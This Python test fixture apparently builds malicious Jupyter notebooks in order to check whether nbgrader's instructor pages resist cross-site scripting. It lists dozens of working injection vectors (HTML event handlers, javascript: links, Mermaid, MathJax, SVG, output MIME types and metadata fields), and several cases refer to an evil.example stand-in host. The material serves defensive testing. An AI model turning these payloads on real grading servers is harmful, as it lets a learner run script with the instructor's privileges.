"""Notebooks whose parts would be scripts in the instructor's browser: one case a way into the page."""
# ruff: noqa: E501 - a table with one row a case

from __future__ import annotations

import base64
import copy
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from typing import Any, Literal

LIST = "an allow-list of elements, attributes and addresses"
PARTS = "a page shows a copy of the notebook, built of plain parts"
TEXT = "it is shown as text"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="{0}"><script>{0}</script></svg>'


@dataclass(frozen=True)
class Shown:
    """An attack on who reads a page.

    Attributes
    ----------
    parts : what the notebook gets: a `source` of Markdown, `data` of an output, or `cell`, `output`, `notebook` fields.
    off : what nbgrader's own page does with it: it runs it, or does when a link is clicked, or fails.
    """

    name: str
    gain: str
    stop: str
    off: Literal["runs", "runs on a click", "fails", ""] = "runs"
    on: str = "runs nothing"
    parts: Callable[[str], Mapping[str, Any]] = field(default=lambda script: {}, repr=False)

    @property
    def script(self) -> str:
        """Tells the server that it ran, and leaves a mark; without a space, a quote, or what Markdown would read."""
        return f"fetch(String(/won-{self.name}/)),window.won=/{self.name}/.source"

    def notebook(self) -> dict[str, Any]:
        """A notebook with this attack alone."""
        return notebook([self])

    @property
    def address(self) -> str:
        """What the script asks the server for."""
        return f"/won-{self.name}/"


def image(script: str) -> str:
    return f'<img src=x onerror="{script}">'


def markdown(source: str) -> Callable[[str], Mapping[str, Any]]:
    """`@` stands for an element that runs the script, `#` for the script."""
    return lambda script: {"source": source.replace("@", image(script)).replace("#", script)}


def attached(files: Any) -> Callable[[str], Mapping[str, Any]]:
    """A picture that refers to an attachment."""
    return lambda script: {"source": "![x](attachment:x)", "cell": {"attachments": filled(files, script)}}


def output(**fields: Any) -> Callable[[str], Mapping[str, Any]]:
    """An output of a code cell, `@` and `#` as for Markdown."""
    return lambda script: {"output": filled(fields, script)}


def beside(**fields: Any) -> Callable[[str], Mapping[str, Any]]:
    """Fields of a code cell itself."""
    return lambda script: {"output": {}, "cell": filled(fields, script)}


def whole(**fields: Any) -> Callable[[str], Mapping[str, Any]]:
    """Metadata of the notebook."""
    return lambda script: {"output": {}, "notebook": filled(fields, script)}


def filled(value: Any, script: str) -> Any:
    if isinstance(value, str):
        return value.replace("@", image(script)).replace("#", script)
    if isinstance(value, Mapping):
        return {filled(key, script): filled(one, script) for key, one in value.items()}
    return [filled(one, script) for one in value] if isinstance(value, list) else value


def shown_as(kind: str, data: Any, **metadata: Any) -> Callable[[str], Mapping[str, Any]]:
    return output(output_type="display_data", data={kind: data}, metadata=metadata)


PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
GRADED = {"grade_id": "x", "points": 5, "grade": True, "solution": True, "locked": False, "schema_version": 3}
CLICK = "a script, when a link is clicked"
SCRIPT = "a script of the learner's that reads Jupyter's API as the instructor"
CASES = [
    Shown("mermaid-block", SCRIPT, LIST, parts=markdown("```mermaid\ngraph</pre>@\n```")),
    Shown("mermaid-info", SCRIPT, LIST, parts=markdown('```mermaid "></pre>@\n</pre>@\n```')),
    Shown("info-string", SCRIPT, LIST, "", parts=markdown('```python"></code>@\nx\n```')),
    Shown("info-string-alone", SCRIPT, LIST, "", parts=markdown('~~~">@\nx\n~~~')),
    Shown("html-script", SCRIPT, TEXT, parts=markdown("<script>#</script>")),
    Shown("html-image", SCRIPT, TEXT, parts=markdown("x @")),
    Shown("html-svg", SCRIPT, TEXT, parts=markdown('<svg onload="#"></svg>')),
    Shown("html-frame", SCRIPT, TEXT, parts=markdown('<iframe srcdoc="<script>#</script>"></iframe>')),
    Shown("html-object", SCRIPT, TEXT, "", parts=markdown('<object data="javascript:#"></object><embed src="javascript:#">')),
    Shown("html-fold", SCRIPT, TEXT, parts=markdown('<details open ontoggle="#"><summary>x</summary>y</details>')),
    Shown("html-refresh", SCRIPT, TEXT, "", parts=markdown('<meta http-equiv="refresh" content="0;url=javascript:#">')),
    Shown("html-base", "scripts of the page from another server", TEXT, "", parts=markdown('<base href="https://evil.example/">')),
    Shown("html-form", CLICK, TEXT, "runs on a click", parts=markdown('<form><button formaction="javascript:#">x</button></form>')),
    Shown("html-comment", SCRIPT, TEXT, parts=markdown('<!--><img src=x onerror="#">-->')),
    Shown("html-tooltip", "a script through the page's own tooltips", TEXT, "", parts=markdown('<b data-toggle="tooltip" data-html="true" title=\'@\'>x</b>')),
    Shown("html-style", "what is on the page, by addresses in rules", TEXT, "", parts=markdown("<style>body{background:url(https://evil.example/x)}</style>")),
    Shown("html-in-folds", SCRIPT, TEXT, parts=markdown("<details><summary>@</summary>\n\n@\n\n</details>")),
    Shown("html-in-mathml", "a script after a second parsing", LIST, parts=markdown('<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=#&gt;">@')),
    Shown("html-in-a-table", SCRIPT, TEXT, parts=markdown("| a |\n|---|\n| @ |")),
    Shown("link-javascript", CLICK, LIST, "runs on a click", parts=markdown("[x](<javascript:#>)")),
    Shown("link-shouted", CLICK, LIST, "runs on a click", parts=markdown("[x](<JavaScript:#>) [y](<java&Tab;script:#>)")),
    Shown("link-data", CLICK, LIST, "", parts=markdown("[x](<data:text/html;base64,PHNjcmlwdD4x#>)")),
    Shown("link-automatic", CLICK, LIST, "runs on a click", parts=markdown("<javascript:#>")),
    Shown("link-title", SCRIPT, LIST, "", parts=markdown("[x](https://a.example 'x\" onmouseover=\"#')")),
    Shown("link-to-configuration", "nbgrader_config.py of a learner's folder is run, when a link is clicked", LIST, "", parts=markdown("[x](/formgrader/?path=course/submitted)")),
    Shown("link-to-a-file", "a page among the files of the submission, when a link is clicked", LIST, "", parts=markdown("[x](evil.html)")),
    Shown("picture-words", SCRIPT, LIST, "", parts=markdown('![" onerror="#](x)')),
    Shown("picture-of-the-web", "when and where the page is read", "pictures are in the notebook, or not shown", "", parts=markdown("![x](https://evil.example/x.png)")),
    Shown("formula-text", SCRIPT, LIST, "", parts=markdown(r"$\text{@}$ $$\text{</math>@}$$")),
    Shown("formula-link", CLICK, LIST, "", parts=markdown(r"$\href{javascript:#}{x}$")),
    Shown("formula-environment", SCRIPT, LIST, "", parts=markdown("\\begin{a}@\\end{a}")),
    Shown("formula-settings", "settings of MathJax", TEXT, "", parts=markdown('<script type="text/x-mathjax-config">#</script>')),
    Shown("formula-of-megabytes", "a page that is never done", "a formula above 10,000 characters is text", "", parts=markdown("$" + "{a" * 20_000 + "$")),
    Shown("attachment-kind", SCRIPT, PARTS, "", parts=attached({"x": {'x" onerror="#': "aGk="}})),
    Shown("attachment-data", SCRIPT, PARTS, "", parts=attached({"x": {"image/png": 'x" onerror="#'}})),
    Shown("attachment-svg", SCRIPT, PARTS, "", parts=attached({"x": {"image/svg+xml": base64.b64encode(SVG.encode()).decode()}})),
    Shown("attachment-lost", "a page that fails", "what is not there is named", "fails", parts=attached({})),
    Shown("attachment-no-dict", "a page that fails", PARTS, "fails", parts=attached("@")),
    Shown("attachment-empty", "a page that fails", PARTS, "fails", parts=attached({"x": {}})),
    Shown("attachment-numbers", "a page that fails", PARTS, "", parts=attached({"x": {"image/png": 5}})),
    Shown("output-html", SCRIPT, LIST, parts=shown_as("text/html", "<script>#</script>@")),
    Shown("output-html-lines", SCRIPT, LIST, "", parts=shown_as("text/html", ["<script>#</", "script>@"])),
    Shown("output-apart", SCRIPT, PARTS, "", parts=shown_as("text/html", "<script>parent.#</script>", **{"text/html": {"isolated": True}})),
    Shown("output-svg", SCRIPT, PARTS, "", parts=shown_as("image/svg+xml", SVG.replace("{0}", "#"))),
    Shown("output-javascript", SCRIPT, PARTS, "", parts=shown_as("application/javascript", "#")),
    Shown("output-markdown", SCRIPT, LIST, parts=shown_as("text/markdown", "```mermaid\n</pre>@\n```")),
    Shown("output-mermaid", SCRIPT, PARTS, "", parts=shown_as("text/vnd.mermaid", "</pre>@")),
    Shown("output-latex", SCRIPT, LIST, "", parts=shown_as("text/latex", r"$\text{@}$")),
    Shown("output-plain", SCRIPT, TEXT, "", parts=shown_as("text/plain", "@")),
    Shown("output-unknown", SCRIPT, PARTS, "", parts=shown_as('x"@', "@")),
    Shown("output-widget", SCRIPT, PARTS, "", parts=shown_as("application/vnd.jupyter.widget-view+json", {"model_id": "</script>@"})),
    Shown("output-picture", SCRIPT, PARTS, "", parts=shown_as("image/png", 'x" onerror="#')),
    Shown("picture-width", SCRIPT, PARTS, parts=shown_as("image/png", "x", **{"image/png": {"width": "1 onerror=#"}})),
    Shown("picture-file", "when and where the page is read", PARTS, "", parts=shown_as("image/png", PIXEL, filenames={"image/png": "https://evil.example/x.png"})),
    Shown("picture-alt", SCRIPT, PARTS, "", parts=shown_as("image/png", "x", **{"image/png": {"alt": '" onerror="#'}})),
    Shown("output-stream", SCRIPT, TEXT, "", parts=output(output_type="stream", name="stdout", text="\x1b[31m@\x1b[0m")),
    Shown("output-error", SCRIPT, TEXT, "", parts=output(output_type="error", ename="@", evalue="@", traceback=["\x1b[31m@"])),
    Shown("cell-count", SCRIPT, PARTS, "fails", parts=beside(execution_count="@")),
    Shown("cell-id", SCRIPT, PARTS, "fails", parts=beside(id='x">@')),
    Shown("cell-tags", SCRIPT, PARTS, "fails", parts=beside(metadata={"tags": ['x">@']})),
    Shown("cell-kind", SCRIPT, PARTS, "fails", parts=beside(cell_type="@")),
    Shown("cell-raw", SCRIPT, LIST, "", parts=beside(cell_type="raw", source="@")),
    Shown("cell-grade-id", SCRIPT, PARTS, parts=beside(metadata={"nbgrader": GRADED | {"grade_id": 'x">@'}})),
    Shown("cell-points", SCRIPT, PARTS, "", parts=beside(metadata={"nbgrader": GRADED | {"points": "@"}})),
    Shown("cell-language", SCRIPT, PARTS, "", parts=beside(metadata={"magics_language": 'x">@'})),
    Shown("notebook-language", SCRIPT, PARTS, "", parts=whole(language_info={"name": 'x">@', "pygments_lexer": 'x">@'})),
    Shown("notebook-title", SCRIPT, PARTS, "", parts=whole(title="</title>@")),
    Shown("notebook-widgets", SCRIPT, PARTS, "", parts=whole(widgets={"application/vnd.jupyter.widget-state+json": "</script>@"})),
]  # fmt: skip


def notebook(cases: list[Shown]) -> dict[str, Any]:
    """A notebook as JSON with these attacks, whatever nbformat says to it."""
    cells: list[dict[str, Any]] = []
    metadata: dict[str, Any] = {}
    for case in cases:
        parts = case.parts(case.script)
        metadata |= parts.get("notebook", {})
        cell: dict[str, Any] = {"id": f"x{len(cells)}", "metadata": {}, "source": parts.get("source", "x = 1")}
        if "output" in parts:
            outputs = [parts["output"]] if parts["output"] else []
            cell |= {"cell_type": "code", "outputs": outputs, "execution_count": 1}
        else:
            cell |= {"cell_type": "markdown"}
        cells.append(cell | copy.deepcopy(parts.get("cell", {})))
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": cells}
